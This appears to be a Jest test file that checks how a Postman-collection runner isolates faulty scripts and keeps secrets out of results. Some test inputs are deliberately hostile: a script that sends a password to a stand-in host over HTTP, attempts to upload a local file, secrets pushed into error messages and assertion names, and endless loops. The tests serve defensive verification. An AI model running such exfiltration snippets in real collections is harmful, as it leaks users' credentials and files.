import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { resolve } from 'node:path';
import { collectionWith, devicesOf, onlyToken, profileOf, runAll, verdicts } from './fleet.js';
import { startTokenServer } from '../../unit/newman/token-server.js';
import type { TokenServer } from '../../unit/newman/token-server.js';

let server: TokenServer;
beforeAll(async () => {
  server = await startTokenServer();
});
afterAll(() => server.close());

describe('a script that misbehaves costs the device in flight', () => {
  const forSecond = (code: string) => `if (pm.iterationData.get('username') === 'second') { ${code} }`;
  const table = [
    ['throws', `throw new Error('broken')`, 'script-failed'],
    ['throws in a timer', `setTimeout(() => { throw new Error('late'); }, 1)`, 'script-failed'],
    ['rejects a promise that no code awaits', `Promise.reject(new Error('unheard'))`, 'worker-died'],
    ['never ends', `for (;;) {}`, 'script-timeout'],
    ['never ends, promise by promise', `(async () => { for (;;) await null; })()`, 'script-timeout'],
    ['waits for ever', `setTimeout(() => undefined, 1e8)`, 'script-timeout'],
    ['fails an assertion', `pm.test('own', () => pm.expect(1).to.equal(2))`, 'assertion-failed'],
  ] as const;
  test.each(table)('when it %s', async (_what, code, reason) => {
    const own = await startTokenServer();
    try {
      const collection = await collectionWith(forSecond(code));
      const options = {
        profile: profileOf(own.tokenUrl),
        collection,
        ...onlyToken,
        timeoutScriptMs: 500,
        concurrency: 1,
      };
      const results = await runAll(server, devicesOf('first', 'second', 'third', 'fourth'), options);
      expect(verdicts(results)).toEqual(['passed', reason, 'passed', 'passed']);
      // No device was sent twice, except by the script that does it on purpose.
      const others = own.bodies.filter((body) => !body.includes('\r\n\r\nsecond\r\n'));
      expect(others).toHaveLength(3);
    } finally {
      await own.close();
    }
  });

  test('and no console output of it reaches the process', async () => {
    const collection = await collectionWith(`console.log(pm.iterationData.get('password'))`);
    expect(verdicts(await runAll(server, devicesOf('ok'), { collection, ...onlyToken }))).toEqual(['passed']);
  });
});

/** A collection of one request, with a test script where one is given. */
function ownCollection(request: object, script?: string): object {
  const event = script === undefined ? [] : [{ listen: 'test', script: { exec: [script] } }];
  const schema = 'https://schema.getpostman.com/json/collection/v2.1.0/collection.json';
  return { info: { name: 'own', schema }, item: [{ name: 'own request', request, event }] };
}

describe('a collection of one’s own', () => {
  test('cannot upload a file of this machine', async () => {
    const own = await startTokenServer();
    try {
      for (const src of ['package.json', './package.json', resolve('package.json')]) {
        const body = { mode: 'formdata', formdata: [{ key: 'file', type: 'file', src }] };
        const upload = { method: 'POST', url: own.tokenUrl, body };
        await expect(
          runAll(server, devicesOf('ok'), { collection: ownCollection(upload) }),
        ).rejects.toMatchObject({ code: 'COLLECTION_INVALID' });
        // A script's own request is known only when it is sent.
        const byScript = `pm.sendRequest(${JSON.stringify(upload)}, () => undefined)`;
        const collection = ownCollection({ method: 'GET', url: own.tokenUrl }, byScript);
        await runAll(server, devicesOf('ok'), { collection });
      }
      expect(own.bodies.length).toBeGreaterThan(0);
      expect(own.bodies.join('')).not.toContain('biotz-postman');
    } finally {
      await own.close();
    }
  });

  test('is not redirected with a password, unless it asks for it', async () => {
    const own = await startTokenServer();
    try {
      const collection = ownCollection({
        method: 'POST',
        url: own.tokenUrl,
        body: { mode: 'urlencoded', urlencoded: [{ key: 'username', value: '{{username}}' }] },
      });
      await runAll(server, devicesOf('moved'), { collection });
      expect(own.bodies).toHaveLength(1);
    } finally {
      await own.close();
    }
  });

  test('without any test does not pass when the server refuses', async () => {
    const body = { mode: 'urlencoded', urlencoded: [{ key: 'username', value: '{{username}}' }] };
    const collection = ownCollection({ method: 'POST', url: '{{token_url}}', body });
    expect(verdicts(await runAll(server, devicesOf('wrong', 'ok', 'failing'), { collection }))).toEqual([
      'invalid-user-credentials',
      'passed',
      'server-error',
    ]);
  });
});

describe('no secret gets into a result by what a script does with it', () => {
  test.each([
    ['an error’s message', `throw new Error(pm.iterationData.get('password'))`],
    [
      'an error’s code',
      `Promise.reject(Object.assign(new Error('x'), { code: pm.iterationData.get('password') }))`,
    ],
    ['an assertion', `pm.test('x', () => pm.expect(pm.iterationData.get('password')).to.equal(1))`],
    ['an assertion’s name', `pm.test(pm.iterationData.get('password'), () => pm.expect(1).to.equal(2))`],
    [
      'an assertion on the token',
      `pm.test('x', () => pm.expect(pm.environment.get('id_token')).to.equal(1))`,
    ],
    [
      'an assertion on an opaque token',
      `pm.test('x', () => pm.expect(pm.response.json().access_token).to.equal(1))`,
    ],
  ])('in %s', async (_where, script) => {
    const collection = await collectionWith(script);
    const [result] = await runAll(server, devicesOf('ok'), { collection, ...onlyToken });
    expect(result?.status).toBe('failed');
    expect(JSON.stringify(result)).not.toMatch(/client_id|\$guid|eyJ|"access"/);
  });
});

test('a script cannot send a password over plain http to another machine', async () => {
  const collection = await collectionWith(`
    pm.sendRequest('http://192.0.2.1/' + pm.iterationData.get('password'), (error) => {
      pm.test('refused', () => pm.expect(JSON.stringify(error)).to.contain('url-insecure'));
    });`);
  expect(verdicts(await runAll(server, devicesOf('ok'), { collection, ...onlyToken }))).toEqual(['passed']);
});
